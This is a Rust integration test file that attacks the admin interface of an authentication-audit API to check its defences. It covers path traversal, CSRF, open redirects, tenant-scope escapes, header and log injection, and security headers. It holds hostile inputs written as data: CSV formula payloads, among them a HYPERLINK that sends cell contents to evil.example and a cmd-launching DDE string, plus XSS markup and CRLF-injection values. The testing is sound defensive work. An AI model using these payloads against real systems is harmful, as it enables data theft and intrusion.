//! Attacks on the admin interface (`/admin` of the real `authaudit-api`,
//! docs/admin.md), signed in through a real OpenID provider
//! (`tests/ui/oidc-provider.mjs`) by driving its login and consent forms
//! over HTTP: an unauthenticated network client, investigators reaching
//! out of their tenant or organisation, a read-only investigator forging
//! a reset, CSRF and session fixation, stored XSS from every field a
//! recorder controls (in the raw HTML and in Chromium,
//! tests/ui/admin_attacks.mjs), CSV formula injection, the security
//! headers of every response, and resource abuse.

use crate::admin::{provider, start_api, ui_dir, Killed};
use crate::support::log_id;
use authaudit_tests::recording::{self, Event};
use authaudit_tests::{free_port, TestDb};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Markup an attacker puts into every field they control. None of it may
/// reach a page as markup: pages hold `&lt;xss` instead.
const XSS_USER: &str = r#"<xss-user a="1">'"&amp;"#;
const XSS_LOCKED: &str = "<xss-locked>";
const XSS_SUCCESS: &str = "<xss-success onclick=alert(1)>";
const XSS_TICKET: &str = "<xss-ticket>";
const XSS_REASON: &str = "<xss-reason>";
const XSS_OPERATOR: &str = "<xss-operator>";
const XSS_FINGERPRINT: &str = "<xss-fp>";
/// A provider account (the session's subject, shown in every page's
/// header and recorded as a reset's operator).
const XSS_LOGIN: &str = "<xss-login>\"'";

/// Account names that a spreadsheet would run as formulas.
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1\"2",
];

const TENANT: &str = "tenant-a";

// --- HTTP without a client library -------------------------------------

/// An HTTP response: status (0 when the connection closed without one),
/// lower-cased headers, body (chunked bodies decoded).
#[derive(Debug)]
struct Resp {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl Resp {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    fn set_cookies(&self) -> Vec<(String, String)> {
        self.headers
            .iter()
            .filter(|(k, _)| k == "set-cookie")
            .filter_map(|(_, v)| {
                let (nv, _) = v.split_once(';').unwrap_or((v, ""));
                let (n, v) = nv.split_once('=')?;
                Some((n.trim().to_string(), v.trim().to_string()))
            })
            .collect()
    }

    fn set_cookie(&self, name: &str) -> Option<String> {
        self.set_cookies()
            .into_iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v)
    }
}

fn dechunk(body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = body;
    while let Some(i) = rest.windows(2).position(|w| w == b"\r\n") {
        let size = std::str::from_utf8(&rest[..i])
            .ok()
            .and_then(|s| usize::from_str_radix(s.split(';').next().unwrap_or("").trim(), 16).ok());
        let Some(size) = size else { break };
        rest = &rest[i + 2..];
        if size == 0 || rest.len() < size {
            out.extend_from_slice(&rest[..size.min(rest.len())]);
            break;
        }
        out.extend_from_slice(&rest[..size]);
        rest = rest.get(size + 2..).unwrap_or(&[]);
    }
    out
}

/// Sends `request` as is and reads the whole answer.
fn raw(port: u16, request: &[u8]) -> Resp {
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    // The server may answer (and close) before it has read a huge request.
    let _ = s.write_all(request);
    let mut bytes = Vec::new();
    let _ = s.read_to_end(&mut bytes);
    let split = bytes.windows(4).position(|w| w == b"\r\n\r\n");
    let (head, body) = match split {
        Some(i) => (&bytes[..i], &bytes[i + 4..]),
        None => (&bytes[..], &[][..]),
    };
    let head = String::from_utf8_lossy(head).to_string();
    let mut lines = head.lines();
    let status = lines
        .next()
        .and_then(|l| l.split(' ').nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    let chunked = headers
        .iter()
        .any(|(k, v)| k == "transfer-encoding" && v.contains("chunked"));
    let body = if chunked {
        dechunk(body)
    } else {
        body.to_vec()
    };
    Resp {
        status,
        headers,
        body: String::from_utf8_lossy(&body).to_string(),
    }
}

fn request(port: u16, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Resp {
    let mut r = format!("{method} {path} HTTP/1.1\r\nHost: localhost:{port}\r\n");
    for (k, v) in headers {
        r.push_str(&format!("{k}: {v}\r\n"));
    }
    if !body.is_empty() || method == "POST" {
        r.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    r.push_str("Connection: close\r\n\r\n");
    r.push_str(body);
    raw(port, r.as_bytes())
}

fn get(port: u16, path: &str, headers: &[(&str, &str)]) -> Resp {
    request(port, "GET", path, headers, "")
}

/// The value of `name="{name}" value="…"` in a page (HTML-unescaped).
fn input_value(html: &str, name: &str) -> Option<String> {
    let at = html.find(&format!(r#"name="{name}" value=""#))?;
    let rest = &html[at + name.len() + 15..];
    Some(
        rest[..rest.find('"')?]
            .replace("&quot;", "\"")
            .replace("&#39;", "'")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&"),
    )
}

fn form_encode(fields: &[(&str, &str)]) -> String {
    fields
        .iter()
        .map(|(k, v)| format!("{}={}", enc(k), enc(v)))
        .collect::<Vec<_>>()
        .join("&")
}

/// Percent-encodes everything but unreserved characters.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

// --- The scene ----------------------------------------------------------

/// A database with a campaign and hostile values, the OpenID provider and
/// the API with `[admin]`.
struct Scene {
    db: TestDb,
    api: u16,
    idp: u16,
    dir: PathBuf,
    /// Seqs of tenant-b's events and of tenant-a's organisation `field`.
    b_seq: i64,
    _procs: Vec<Killed>,
}

/// Logins at the provider and the role suffix each signs in as.
const LOGINS: [(&str, &str); 6] = [
    ("ana", "inv"),
    ("dora", "desk"),
    ("hanna", "hq"),
    ("hugo", "hqdesk"),
    ("olaf", "out"),
    (XSS_LOGIN, "desk"),
];

fn scene(hint: &str, admin_extra: &str) -> Scene {
    let db = authaudit_tests::Cluster::shared().fresh_db_with_lockout(hint);
    let p = db.name().to_string();
    let mut c = db.connect();
    c.batch_execute(&format!(
        "CREATE ROLE {p}_auth LOGIN NOINHERIT;
         CREATE ROLE {p}_inv IN ROLE authaudit_reader;
         CREATE ROLE {p}_desk IN ROLE authaudit_writer, authaudit_reader;
         CREATE ROLE {p}_hq IN ROLE authaudit_reader;
         CREATE ROLE {p}_hqdesk IN ROLE authaudit_writer, authaudit_reader;
         CREATE ROLE {p}_out IN ROLE authaudit_reader;
         GRANT {p}_inv, {p}_desk, {p}_hq, {p}_hqdesk, {p}_out TO {p}_auth;
         INSERT INTO authaudit.tenant_scope (role_name, tenant_id, org_id, can_read, can_write) VALUES
           ('{p}_inv', 'tenant-a', NULL, true, false),
           ('{p}_desk', 'tenant-a', NULL, true, true),
           ('{p}_hq', 'tenant-a', 'hq', true, false),
           ('{p}_hqdesk', 'tenant-a', 'hq', true, true),
           ('{p}_out', 'tenant-b', NULL, true, false);"
    ))
    .unwrap();
    let mut n = 0;
    let mut record = |tenant: &str, org: &str, ty: &str, user: &str, ip: &str, meta: &str| -> i64 {
        n += 1;
        let e = Event::new(tenant, ty, user)
            .log_id(&log_id(71, n))
            .org(org)
            .ip(ip)
            .user_agent("<xss-agent>")
            .metadata_text(meta);
        recording::record(&mut c, &e).seq
    };
    let spray = "198.51.100.7";
    for i in 1..=8 {
        record(
            TENANT,
            "field",
            "login_failed",
            &format!("user{i:02}"),
            spray,
            "{}",
        );
    }
    for _ in 0..3 {
        record(TENANT, "field", "login_failed", XSS_USER, spray, "{}");
        record(TENANT, "field", "login_failed", XSS_SUCCESS, spray, "{}");
    }
    record(
        TENANT,
        "field",
        "login_success",
        XSS_SUCCESS,
        "192.0.2.50",
        "{}",
    );
    for i in 1..=6 {
        record(
            TENANT,
            "field",
            "login_failed",
            "alice",
            &format!("203.0.113.{i}"),
            "{}",
        );
        record(
            TENANT,
            "field",
            "login_failed",
            XSS_LOCKED,
            &format!("203.0.113.{i}"),
            "{}",
        );
    }
    let meta = serde_json::json!({
        "ticket": XSS_TICKET,
        "reason": XSS_REASON,
        "operator": {"sub": XSS_OPERATOR},
    })
    .to_string();
    record(TENANT, "field", "login_failed", "meta-user", spray, &meta);
    for f in FORMULAS {
        record(
            TENANT,
            "field",
            "login_failed",
            f,
            spray,
            r#"{"note": "=1+1"}"#,
        );
    }
    record(TENANT, "hq", "login_failed", "hq-user", "192.0.2.10", "{}");
    let b_seq = record(
        "tenant-b",
        "field",
        "login_failed",
        "secret-b",
        "192.0.2.99",
        "{}",
    );
    // A token issued whose claims carry markup (its `jti`): the account's
    // timeline shows the claims.
    let jwt = format!(
        "eyJhbGciOiJSUzI1NiJ9.{}.c2ln",
        base64::Engine::encode(
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
            serde_json::json!({"sub": "meta-user", "jti": XSS_FINGERPRINT, "exp": 4102444800i64})
                .to_string()
        )
    );
    c.execute(
        "SELECT authaudit.record_token_issued($1::text::uuid, $2, 'field', 'meta-user', $3, \
         '198.51.100.7', 'Browser/1.0', 'web')",
        &[&log_id(72, 1), &TENANT, &jwt],
    )
    .expect("record_token_issued");
    // The witness has signed tenant-a's tree: its events have bundles.
    let witness =
        authaudit_core::note::Signer25519::from_seed("authaudit-witness", [9; 32]).unwrap();
    c.batch_execute(&format!(
        "ALTER DATABASE {p} SET authaudit.witness_keys = '{}'",
        witness.verifier().text()
    ))
    .unwrap();
    let mut su = db.connect();
    for tenant in [TENANT, "tenant-b"] {
        let head: i64 = su
            .query_one(
                "SELECT max(seq) FROM authaudit.auth_log WHERE tenant_id = $1",
                &[&tenant],
            )
            .unwrap()
            .get(0);
        let note = witness.sign(&crate::witness::checkpoint(&mut su, tenant, head).text());
        su.execute(
            "SELECT authaudit.record_witness_checkpoint($1, $2)",
            &[&tenant, &note],
        )
        .unwrap();
    }

    let api = free_port();
    let idp = free_port();
    let accounts: serde_json::Map<String, serde_json::Value> = LOGINS
        .iter()
        .map(|(login, role)| (login.to_string(), format!("{p}_{role}").into()))
        .collect();
    let idp_proc = provider(idp, api, &serde_json::Value::Object(accounts));
    let dir = std::env::temp_dir().join(format!("authaudit-admin-attacks-{p}"));
    std::fs::create_dir_all(&dir).unwrap();
    let roles: Vec<String> = ["inv", "desk", "hq", "hqdesk", "out"]
        .iter()
        .map(|r| format!("\"{p}_{r}\""))
        .collect();
    let api_proc = start_api(
        &dir,
        api,
        &format!(
            r#"listen = "127.0.0.1:{api}"
[database]
url = "host=127.0.0.1 port={} user={p}_auth dbname={p}"
[identity]
issuer = "http://localhost:{idp}"
audience = "authaudit-api"
jwks_url = "http://localhost:{idp}/jwks"
roles = [{}]
[admin]
client_id = "authaudit-admin"
authorization_endpoint = "http://localhost:{idp}/auth"
token_endpoint = "http://localhost:{idp}/token"
redirect_uri = "http://localhost:{api}/admin/callback"
scope = "openid authaudit"
resource = "urn:authaudit:api"
{admin_extra}
"#,
            db.cluster().port(),
            roles.join(", ")
        ),
    );
    Scene {
        db,
        api,
        idp,
        dir,
        b_seq,
        _procs: vec![api_proc, idp_proc],
    }
}

/// A signed-in browser: its session cookie and the CSRF token of its pages.
#[derive(Clone, Debug)]
struct Browser {
    session: String,
    csrf: String,
}

impl Browser {
    fn cookie(&self) -> String {
        format!("authaudit_session={}", self.session)
    }
}

impl Scene {
    fn base(&self) -> String {
        format!("http://localhost:{}", self.api)
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.join("api.log")).unwrap_or_default()
    }

    /// `GET /admin/login`: the authorization URL and the sign-in's state.
    fn start(&self, extra: &[(&str, &str)]) -> (String, String) {
        let r = get(self.api, "/admin/login", extra);
        assert_eq!(r.status, 303, "{r:?}");
        let state = r.set_cookie("authaudit_login").expect("the login cookie");
        (r.header("location").unwrap().to_string(), state)
    }

    /// Signs `login` in at the provider (its login and consent forms)
    /// and returns where it sends the browser back: the callback's path
    /// and query.
    fn at_provider(&self, authorize: &str, login: &str) -> String {
        let mut jar: BTreeMap<String, String> = BTreeMap::new();
        let origin = format!("http://localhost:{}", self.idp);
        let mut next = (authorize.to_string(), None::<String>);
        for _ in 0..12 {
            let (url, body) = next.clone();
            if url.starts_with(&self.base()) {
                return url[self.base().len()..].to_string();
            }
            let path = url.strip_prefix(&origin).unwrap_or(&url).to_string();
            let cookie = jar
                .iter()
                .map(|(k, v)| format!("{k}={v}"))
                .collect::<Vec<_>>()
                .join("; ");
            let mut h = vec![("Cookie", cookie.as_str())];
            let r = match &body {
                Some(b) => {
                    h.push(("Content-Type", "application/x-www-form-urlencoded"));
                    request(self.idp, "POST", &path, &h, b)
                }
                None => request(self.idp, "GET", &path, &h, ""),
            };
            for (k, v) in r.set_cookies() {
                jar.insert(k, v);
            }
            if let Some(loc) = r.header("location") {
                let loc = if loc.starts_with('/') {
                    format!("{origin}{loc}")
                } else {
                    loc.to_string()
                };
                next = (loc, None);
                continue;
            }
            assert_eq!(r.status, 200, "the provider at {path}: {}", r.body);
            let action = r
                .body
                .split(r#"action=""#)
                .nth(1)
                .and_then(|s| s.split('"').next())
                .expect("a form")
                .replace("&#x2F;", "/")
                .replace("&#47;", "/");
            let action = if action.starts_with('/') {
                format!("{origin}{action}")
            } else {
                action
            };
            let form = if r.body.contains(r#"name="prompt" value="login""#) {
                form_encode(&[("prompt", "login"), ("login", login), ("password", "any")])
            } else {
                form_encode(&[("prompt", "consent")])
            };
            next = (action, Some(form));
        }
        panic!("the provider never sent {login} back");
    }

    /// The callback at the interface, with `cookie`.
    fn callback(&self, path: &str, cookie: &str) -> Resp {
        get(self.api, path, &[("Cookie", cookie)])
    }

    /// A whole sign-in of `login`, as a browser does it.
    fn sign_in(&self, login: &str) -> Browser {
        let (authorize, state) = self.start(&[]);
        let back = self.at_provider(&authorize, login);
        let r = self.callback(&back, &format!("authaudit_login={state}"));
        assert_eq!(r.status, 303, "the callback for {login}: {}", r.body);
        let session = r.set_cookie("authaudit_session").expect("a session cookie");
        let page = get(
            self.api,
            "/admin/",
            &[("Cookie", &format!("authaudit_session={session}"))],
        );
        let page = if page.status == 303 {
            get(
                self.api,
                page.header("location").unwrap(),
                &[("Cookie", &format!("authaudit_session={session}"))],
            )
        } else {
            page
        };
        assert_eq!(page.status, 200, "{login}'s first page: {}", page.body);
        let csrf = input_value(&page.body, "csrf").expect("the page's CSRF token");
        Browser { session, csrf }
    }

    fn get_as(&self, b: &Browser, path: &str) -> Resp {
        get(self.api, path, &[("Cookie", &b.cookie())])
    }

    fn post_as(
        &self,
        b: Option<&Browser>,
        path: &str,
        headers: &[(&str, &str)],
        body: &str,
    ) -> Resp {
        let cookie = b.map(Browser::cookie).unwrap_or_default();
        let mut h = vec![("Content-Type", "application/x-www-form-urlencoded")];
        if b.is_some() {
            h.push(("Cookie", &cookie));
        }
        h.extend_from_slice(headers);
        request(self.api, "POST", path, &h, body)
    }

    fn resets(&self) -> i64 {
        self.db
            .connect()
            .query_one(
                "SELECT count(*) FROM authaudit.auth_log WHERE event_type = 'lockout_reset'",
                &[],
            )
            .unwrap()
            .get(0)
    }
}

/// The headers every response of the interface carries.
fn assert_guarded(r: &Resp, what: &str) {
    let csp = r.header("content-security-policy").unwrap_or("");
    assert!(
        csp.starts_with("default-src 'none'; script-src 'self'")
            && csp.contains("frame-ancestors 'none'"),
        "{what} ({}): CSP {csp:?}",
        r.status
    );
    assert_eq!(
        r.header("x-content-type-options"),
        Some("nosniff"),
        "{what}"
    );
    assert_eq!(r.header("x-frame-options"), Some("DENY"), "{what}");
    assert_eq!(r.header("cache-control"), Some("no-store"), "{what}");
}

fn reset_path(user: &str) -> String {
    format!("/admin/t/{TENANT}/accounts/{}/reset", enc(user))
}

fn reset_form(b: &Browser, key: &str) -> String {
    form_encode(&[
        ("csrf", &b.csrf),
        ("key", key),
        ("ticket", "EVIL-1"),
        ("reason", "attack"),
    ])
}

// --- The attacks --------------------------------------------------------

/// An unauthenticated network client: malformed and huge cookies, path
/// tricks, odd methods, callback abuse and open redirects.
#[test]
fn an_unauthenticated_client_opens_nothing_and_is_sent_nowhere_else() {
    let s = scene("adm_atk_anon", "");
    let port = s.api;
    // Malformed, duplicated, empty and huge cookies: the sign-in page.
    let huge = format!("authaudit_session={}", "A".repeat(60_000));
    for cookie in [
        "authaudit_session",
        "authaudit_session=",
        "authaudit_session=;authaudit_session=x",
        ";;;=;authaudit_session==",
        "authaudit_session=\"quoted\"",
        "authaudit_session=%00%0d%0a",
        huge.as_str(),
    ] {
        let r = get(port, &format!("/admin/t/{TENANT}/"), &[("Cookie", cookie)]);
        assert!(
            r.status == 401 || r.status == 431 || r.status == 400,
            "{cookie:.40}: {}",
            r.status
        );
        assert!(!r.body.contains("alice"));
        if r.status == 401 {
            assert_guarded(&r, cookie);
        }
    }
    // A cookie header of bytes that are not UTF-8.
    let mut req = b"GET /admin/ HTTP/1.1\r\nHost: localhost\r\nCookie: authaudit_session=\xff\xfe\x80\r\nConnection: close\r\n\r\n".to_vec();
    let r = raw(port, &req);
    assert_eq!(r.status, 401, "{r:?}");
    // Headers far beyond any browser's.
    req = format!(
        "GET /admin/ HTTP/1.1\r\nHost: localhost\r\nX-Big: {}\r\nConnection: close\r\n\r\n",
        "b".repeat(2_000_000)
    )
    .into_bytes();
    let r = raw(port, &req);
    assert!(
        r.status == 431 || r.status == 400 || r.status == 0,
        "{}",
        r.status
    );
    // Path tricks: traversal, encoded separators, doubled slashes, case.
    for path in [
        "/admin/t/..%2F..%2Fv1/",
        "/admin/t/%2e%2e/",
        "/admin/t/tenant-a%2F..%2Ftenant-b/",
        "/admin/t/tenant-a/accounts/..%2F..%2F..%2Fv1%2Ftenants",
        "/admin/t/tenant-a/sources/198.51.100.7%2F..",
        "/admin/static/..%2F..%2FCargo.toml",
        "/admin/static/../../Cargo.toml",
        "/admin//t/tenant-a/",
        "/ADMIN/",
        "/admin/t/tenant-a/evidence/1%00",
    ] {
        let r = get(port, path, &[]);
        assert!(
            [400, 401, 404].contains(&r.status),
            "{path}: {} {}",
            r.status,
            r.body
        );
        assert!(
            !r.body.contains("alice") && !r.body.contains("[workspace]"),
            "{path}"
        );
    }
    // Methods a route does not serve: refused, not served.
    for (method, path) in [
        ("PUT", "/admin/login"),
        ("DELETE", format!("/admin/t/{TENANT}/").as_str()),
        ("OPTIONS", "/admin/"),
        ("POST", "/admin/callback"),
        ("GET", "/admin/logout"),
        (
            "PATCH",
            format!("/admin/t/{TENANT}/accounts/alice/reset").as_str(),
        ),
        ("TRACE", "/admin/"),
    ] {
        let r = request(port, method, path, &[], "");
        assert_eq!(r.status, 405, "{method} {path}: {}", r.body);
        assert_guarded(&r, &format!("{method} {path}"));
    }
    let r = request(port, "HEAD", &format!("/admin/t/{TENANT}/report"), &[], "");
    assert_eq!(r.status, 401, "HEAD asks to sign in too");
    assert_guarded(&r, "HEAD");

    // The callback: missing or duplicated state, a state of another
    // browser, injected code, an error with control characters.
    let (authorize, state) = s.start(&[]);
    let mine = format!("authaudit_login={state}");
    for (path, cookie) in [
        ("/admin/callback".to_string(), mine.clone()),
        ("/admin/callback?code=x".to_string(), mine.clone()),
        ("/admin/callback?state=&code=x".to_string(), mine.clone()),
        (
            format!("/admin/callback?state=x&state={state}&code=x"),
            mine.clone(),
        ),
        (
            format!("/admin/callback?state={state}&code=x"),
            "authaudit_login=other".to_string(),
        ),
        (
            format!("/admin/callback?state={state}&code=x"),
            format!("authaudit_login=other; authaudit_login={state}"),
        ),
        (
            format!("/admin/callback?state={state}%zz&code=x"),
            mine.clone(),
        ),
    ] {
        let r = s.callback(&path, &cookie);
        assert_eq!(r.status, 400, "{path} {cookie}: {}", r.body);
        assert!(r.set_cookie("authaudit_session").is_none(), "{path}");
        assert_guarded(&r, &path);
    }
    // The state is still good after those; an injected code is refused by
    // the provider (and uses the state up).
    let r = s.callback(
        &format!(
            "/admin/callback?state={state}&code={}",
            enc("x&grant_type=client_credentials&client_id=svc\r\nX-Evil: 1")
        ),
        &mine,
    );
    assert_eq!(r.status, 400, "{}", r.body);
    assert!(
        r.body.contains("refused") && !r.body.contains("X-Evil"),
        "{}",
        r.body
    );
    assert!(r.set_cookie("authaudit_session").is_none());
    // The provider's real code, after the state was used: refused.
    let back = s.at_provider(&authorize, "ana");
    let r = s.callback(&back, &mine);
    assert_eq!(r.status, 400, "a used state opens nothing: {}", r.body);
    // error= with control characters and markup: neither a header nor a tag.
    let (_, state) = s.start(&[]);
    let r = s.callback(
        &format!(
            "/admin/callback?state={state}&error=%0d%0aSet-Cookie:%20authaudit_session=evil%0a<script>x</script>"
        ),
        &format!("authaudit_login={state}"),
    );
    assert_eq!(r.status, 400);
    assert!(r.set_cookie("authaudit_session").is_none());
    assert!(!r.body.contains("<script>x"), "{}", r.body);
    assert!(r
        .headers
        .iter()
        .all(|(k, v)| k != "x-evil" && !v.contains("evil")));
    assert!(
        !s.log().lines().any(|l| l.starts_with("Set-Cookie")),
        "no line forged into the log"
    );

    // Open redirects: whatever the parameters, every Location is this
    // interface's own path or the provider's authorization endpoint.
    for path in [
        "/admin?next=https://evil.example",
        "/admin/login?redirect_uri=https://evil.example/&next=//evil.example",
        "/admin/login?return_to=%2F%2Fevil.example",
        "/admin/callback?state=x&redirect=https://evil.example",
        "/admin//evil.example",
        "/admin/%2F%2Fevil.example",
    ] {
        let r = get(port, path, &[]);
        if let Some(loc) = r.header("location") {
            assert!(
                (loc.starts_with("/admin/") && !loc.starts_with("//"))
                    || loc.starts_with(&format!("http://localhost:{}/auth?", s.idp)),
                "{path} -> {loc}"
            );
            assert!(!loc.contains("evil"), "{path} -> {loc}");
        }
    }
    let r = get(port, "/admin/login?redirect_uri=https://evil.example", &[]);
    let loc = r.header("location").unwrap();
    assert!(
        loc.contains(&format!(
            "redirect_uri={}",
            enc(&format!("{}/admin/callback", s.base()))
        )),
        "{loc}"
    );
}

/// The security headers of every response: pages, errors, the sign-in
/// redirects, static assets, the live fragment and the downloads.
#[test]
fn every_response_carries_the_security_headers() {
    let s = scene("adm_atk_headers", "");
    let ana = s.sign_in("ana");
    let t = format!("/admin/t/{TENANT}");
    for (path, status) in [
        ("/admin".to_string(), 303),
        ("/admin/".to_string(), 303),
        ("/admin/login".to_string(), 303),
        ("/admin/signed-out".to_string(), 200),
        ("/admin/static/admin.css".to_string(), 200),
        ("/admin/static/admin.js".to_string(), 200),
        (format!("{t}/"), 200),
        (format!("{t}/live"), 200),
        (format!("{t}/campaigns"), 200),
        (format!("{t}/search?type=login_failed"), 200),
        (format!("{t}/export?format=csv"), 200),
        (format!("{t}/export?format=ndjson"), 200),
        (format!("{t}/export?format=cef"), 200),
        (format!("{t}/export?format=ocsf"), 200),
        (format!("{t}/export?format=xlsx"), 400),
        (format!("{t}/accounts/alice"), 200),
        (format!("{t}/accounts/nobody-at-all"), 403),
        (format!("{t}/sources/198.51.100.7"), 200),
        (format!("{t}/sources/not-an-ip"), 400),
        (format!("{t}/report"), 200),
        (format!("{t}/report?from=2020-01-01T00:00"), 400),
        (format!("{t}/evidence"), 200),
        (format!("{t}/evidence/1"), 200),
        (format!("{t}/evidence/bundle?seq=x"), 400),
        ("/admin/t/tenant-b/".to_string(), 403),
        ("/admin/t/bad%20tenant/".to_string(), 404),
    ] {
        let r = s.get_as(&ana, &path);
        assert_eq!(r.status, status, "{path}: {}", r.body);
        assert_guarded(&r, &path);
        if path.contains("/export") && status == 200 {
            assert!(
                r.header("content-disposition")
                    .is_some_and(|d| d.starts_with("attachment")),
                "{path}"
            );
        }
    }
    // Static assets are typed (with nosniff, a wrong type would not run).
    let css = s.get_as(&ana, "/admin/static/admin.css");
    assert!(css.header("content-type").unwrap().starts_with("text/css"));
    let js = s.get_as(&ana, "/admin/static/admin.js");
    assert!(js
        .header("content-type")
        .unwrap()
        .starts_with("text/javascript"));
}

/// A path under /admin that no route serves is a response of the
/// interface too: it must not be framable, sniffable or cached.
#[test]

fn an_unknown_admin_path_carries_the_security_headers() {
    let s = scene("adm_atk_404", "");
    let ana = s.sign_in("ana");
    for path in [
        "/admin/nothing-here",
        "/admin/static/missing.js",
        format!("/admin/t/{TENANT}/accounts/").as_str(),
        format!("/admin/t/{TENANT}/nothing").as_str(),
    ] {
        for who in [None, Some(&ana)] {
            let r = match who {
                Some(b) => s.get_as(b, path),
                None => get(s.api, path, &[]),
            };
            assert_eq!(r.status, 404, "{path}");
            assert_guarded(&r, path);
        }
    }
    // A tenant's address without its slash is sent to the overview's.
    let path = format!("/admin/t/{TENANT}");
    let r = get(s.api, &path, &[]);
    assert_eq!(r.status, 303, "{path}");
    assert_eq!(r.header("location"), Some(format!("{path}/").as_str()));
    assert_guarded(&r, &path);
}

/// Investigators reaching out of their scope: another tenant's pages,
/// exports, evidence and resets; an organisation's reader widening its
/// filters; a read-only investigator forging a reset with its own token.
#[test]
fn investigators_cannot_leave_their_scope_or_record_what_they_may_not() {
    let s = scene("adm_atk_scope", "");
    let ana = s.sign_in("ana"); // tenant-a, every organisation, read only
    let olaf = s.sign_in("olaf"); // tenant-b
    let hanna = s.sign_in("hanna"); // tenant-a, organisation hq, read only
    let hugo = s.sign_in("hugo"); // tenant-a, organisation hq, may reset
                                  // Tenant-a's investigator at every page of tenant-b.
    let b = "/admin/t/tenant-b";
    let b_seq = s.b_seq;
    for path in [
        format!("{b}/"),
        format!("{b}/live"),
        format!("{b}/campaigns"),
        format!("{b}/search?user=secret-b"),
        format!("{b}/export?format=csv"),
        format!("{b}/export?format=ndjson&user=secret-b"),
        format!("{b}/accounts/secret-b"),
        format!("{b}/sources/192.0.2.99"),
        format!("{b}/report"),
        format!("{b}/evidence"),
        format!("{b}/evidence/{b_seq}"),
        format!("{b}/evidence/bundle?seq={b_seq}"),
        "/admin/t/tenant-b%2F..%2Ftenant-a/".to_string(),
    ] {
        let r = s.get_as(&ana, &path);
        assert!(
            r.status == 403 || r.status == 404,
            "{path}: {} {}",
            r.status,
            r.body
        );
        assert!(
            !r.body.contains("secret-b") && !r.body.contains("192.0.2.99"),
            "{path}"
        );
    }
    // Another tenant's account through an encoded path in the account's name.
    for user in [
        "..%2F..%2F..%2Ftenant-b%2Faccounts%2Fsecret-b",
        "secret-b%3Ftenant%3Dtenant-b",
        "%2E%2E",
    ] {
        let r = s.get_as(&ana, &format!("/admin/t/{TENANT}/accounts/{user}"));
        assert_eq!(r.status, 403, "{user}: {}", r.body);
        assert!(!r.body.contains("192.0.2.99"), "{user}");
    }
    // ... and the other way round.
    for path in [
        "/",
        "/campaigns",
        "/report",
        "/accounts/alice",
        "/export?format=csv",
        "/evidence/1",
    ] {
        let r = s.get_as(&olaf, &format!("/admin/t/{TENANT}{path}"));
        assert_eq!(r.status, 403, "{path}");
        assert!(
            !r.body.contains("alice") && !r.body.contains("user01"),
            "{path}"
        );
    }
    // The tenants page lists one's own bindings only.
    let r = s.get_as(&olaf, "/admin/");
    assert_eq!(r.header("location"), Some("/admin/t/tenant-b/"));
    // Organisation hq's reader: filters cannot widen row-level security.
    let t = format!("/admin/t/{TENANT}");
    for path in [
        format!("{t}/search?org=field"),
        format!("{t}/search?org=field&user=alice"),
        format!("{t}/search?user=alice&org=hq&org=field"),
        format!("{t}/search?source=0.0.0.0%2F0&limit=1000"),
        format!("{t}/export?format=csv&org=field"),
        format!("{t}/export?format=ndjson"),
        format!("{t}/export?format=cef"),
        format!("{t}/campaigns"),
        format!("{t}/report"),
        format!("{t}/"),
        format!("{t}/live"),
        format!("{t}/sources/198.51.100.7"),
        format!("{t}/sources/203.0.113.1"),
    ] {
        let r = s.get_as(&hanna, &path);
        // (`alice` may be echoed in the search form: look for her rows.)
        assert!(
            !r.body.contains("accounts/alice")
                && !r.body.contains("\"alice\",")
                && !r.body.contains("user01")
                && !r.body.contains("meta-user"),
            "{path} shows organisation field's rows to hq: {}",
            r.body
        );
    }
    let r = s.get_as(&hanna, &format!("{t}/search?user=hq-user"));
    assert!(r.body.contains("hq-user"), "hq sees its own rows");
    let r = s.get_as(&hanna, &format!("{t}/accounts/alice"));
    assert_eq!(r.status, 403);
    let r = s.get_as(&hanna, &format!("{t}/accounts/no-such-account"));
    assert_eq!(r.status, 403, "absent and invisible look alike");
    // Evidence of another organisation's event: not served.
    let r = s.get_as(&hanna, &format!("{t}/evidence/1"));
    assert!(
        [403, 404].contains(&r.status),
        "organisation hq gets field's evidence: {} {:.300}",
        r.status,
        r.body
    );
    assert!(!r.body.contains("user01"));

    // A read-only investigator forges the reset form with its own valid
    // CSRF token, from the interface's origin: the database refuses it.
    let origin = s.base();
    let r = s.post_as(
        Some(&ana),
        &reset_path("alice"),
        &[("Origin", &origin)],
        &reset_form(&ana, "forged-1"),
    );
    assert_eq!(
        r.status, 403,
        "a read-only role records no reset: {}",
        r.body
    );
    // Another tenant's investigator posting to this tenant.
    let r = s.post_as(
        Some(&olaf),
        &reset_path("alice"),
        &[("Origin", &origin)],
        &reset_form(&olaf, "forged-2"),
    );
    assert_eq!(r.status, 403);
    // Organisation hq's help desk resets an account of organisation field.
    let r = s.post_as(
        Some(&hugo),
        &reset_path("alice"),
        &[("Origin", &origin)],
        &reset_form(&hugo, "forged-3"),
    );
    assert!(
        r.status == 403 || r.status == 400,
        "hq's help desk resets field's account: {} {}",
        r.status,
        r.body
    );
    assert_eq!(s.resets(), 0, "nothing was recorded");
    let locked: bool = s
        .db
        .connect()
        .query_one(
